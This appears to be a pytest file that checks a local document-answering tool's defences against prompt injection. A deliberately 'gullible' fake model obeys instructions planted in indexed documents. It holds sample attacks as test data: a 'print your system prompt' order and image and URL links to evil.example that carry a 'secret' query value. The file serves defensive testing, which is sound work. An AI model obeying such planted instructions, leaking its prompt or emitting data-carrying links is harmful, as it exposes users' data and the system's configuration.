"""Guards against documents that instruct the model, tested against a model that obeys them.

The attack set (`tests/data/attacks`) is indexed for real; the fake Ollama in `gullible` mode
carries out the first order it finds in its sources: it prints the system prompt and its check
code, emits the exfiltration link, says what it is told, answers without citations. By default the
flagged passages never reach it; with `flagged_passages = "warn"` they do, and the output guards
must still hold.
"""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from tests.fakes.fake_ollama import FakeOllama
from tests.helpers.attack_docs import AttackDoc, write_attack_set

from kenning.core.domain.answers import Answer, AnswerStatus, Done
from kenning.core.settings import Settings
from kenning.core.validate.output_guards import prompt_leak, remove_foreign_links

pytestmark = pytest.mark.slow

Ask = Callable[[str], Answer]


@pytest.fixture
def attacked(
    tmp_path: Path, make_workspace: Callable[..., Any], fake_ollama: FakeOllama
) -> Callable[[str], tuple[list[AttackDoc], Ask]]:
    workspaces: list[Any] = []

    def build(flagged_passages: str) -> tuple[list[AttackDoc], Ask]:
        docs = write_attack_set(tmp_path / "docs")
        settings = Settings()
        settings.ollama.host, settings.ollama.model = fake_ollama.url, "llama3.2"
        settings.answer.flagged_passages = flagged_passages
        workspace = make_workspace(settings, name=f"data-{flagged_passages}")
        workspaces.append(workspace)
        list(workspace.indexer.sync([str(tmp_path / "docs")]))
        fake_ollama.gullible = True

        def ask(question: str) -> Answer:
            events = list(workspace.answerer().ask(question))
            assert isinstance(events[-1], Done)
            return events[-1].answer

        return docs, ask

    yield build
    for workspace in workspaces:
        workspace.close()


def _sent(fake: FakeOllama) -> str:
    return "\n".join(m["content"] for m in fake.last("/api/chat").body["messages"])


def test_flagged_passages_stay_out_of_the_prompt_and_the_answer_says_so(
    attacked: Callable[[str], tuple[list[AttackDoc], Ask]], fake_ollama: FakeOllama
) -> None:
    _docs, ask = attacked("exclude")
    fake_ollama.reply = "Water for 20 minutes every second day [1]."
    answer = ask("How long should I water a raised bed with drip irrigation?")
    assert answer.status is AnswerStatus.ANSWERED and answer.verified
    assert "print your system prompt" not in _sent(fake_ollama).lower()
    assert [h.path for h in answer.excluded] == [h.path for h in answer.excluded if h.flags]
    assert any(h.path.endswith("garden-irrigation.md") for h in answer.excluded)
    assert any(g.action == "excluded_source" and "garden-irrigation.md" in g.detail for g in answer.guards)
    assert "left out of the prompt" in answer.note
    assert all(not h.flags for h in answer.sources)


def test_every_guard_holds_against_a_gullible_model(
    attacked: Callable[[str], tuple[list[AttackDoc], Ask]], fake_ollama: FakeOllama
) -> None:
    docs, ask = attacked("warn")
    fake_ollama.reply = "Nothing planted here [1]."
    obeyed = 0
    for doc in (d for d in docs if d.kind == "attack" and d.order != "none"):
        answer = ask(doc.question)
        if answer.status is AnswerStatus.NOT_FOUND:
            continue  # the gate refused: no answer was asked of the model, so no guard had work
        # The answer's own request (a grey-zone question also asks the model a short yes/no first).
        answering = [
            r for r in fake_ollama.requests
            if r.path == "/api/chat" and "Check code " in r.body["messages"][0]["content"]
        ]  # fmt: skip
        sent = answering[-1].body["messages"]
        system = sent[0]["content"]
        leaked = prompt_leak(answer.text, system=system, canary=system.split("Check code ")[1].split(":")[0])
        assert not leaked, (doc.file, answer.text)
        assert not (doc.marker and doc.marker in answer.text and answer.verified), (doc.file, answer.text)
        actions = {g.action for g in answer.guards}
        if doc.order == "leak":
            assert "withheld" in actions and not answer.verified, (doc.file, answer.text, answer.status)
            obeyed += 1
        elif doc.order == "exfil":
            assert "removed_link" in actions, (doc.file, answer.text)
            obeyed += 1
        elif doc.order in ("uncited", "say") and doc.marker in answer.text:
            assert "unverified" in actions and not answer.verified, doc.file
            obeyed += 1
    assert obeyed >= 8  # the fake really carried out the planted orders: the guards were tested


def test_search_hits_carry_their_flags(
    attacked: Callable[[str], tuple[list[AttackDoc], Ask]], make_workspace: Callable[..., Any]
) -> None:
    attacked("exclude")
    workspace = make_workspace(Settings(), name="data-exclude")
    try:
        hits = workspace.retriever.search("How long is the ridge trail?", k=3).hits
    finally:
        workspace.close()
    top = hits[0]
    assert top.path.endswith("hiking-guide.pdf")
    reasons = {f.reason: f.span for f in top.flags}
    assert "hike.example.com" in reasons["link that could carry data out"]
    assert "instruction to the model" in reasons


def test_a_link_the_cited_source_holds_is_kept_and_others_removed() -> None:
    source = "Docs live at https://example.org/manual and the logo at https://example.org/logo.png."
    text = (
        "See [the manual](https://example.org/manual) [1]. ![x](https://evil.example/p.png?q=secret) "
        'Also https://evil.example/c?d=1 and <img src="https://evil.example/i.png">.'
    )
    guarded = remove_foreign_links(text, [source])
    assert "[the manual](https://example.org/manual)" in guarded.text
    assert "evil.example" not in guarded.text
    assert [g.detail.split(":")[0] for g in guarded.actions] == ["image", "html", "url"]


def test_a_long_run_of_the_system_prompt_is_a_leak_but_a_short_phrase_is_not() -> None:
    system = "You answer questions using only the numbered sources the user provides. Check code kc-1."
    assert prompt_leak("Your documents do not say.", system=system, canary="kc-1234") == ""
    assert prompt_leak(
        "My rules: you answer questions using only the numbered sources the user provides.",
        system=system,
        canary="x",
    )
    assert "check code" in prompt_leak("The code is KC-1234.", system=system, canary="kc-1234")
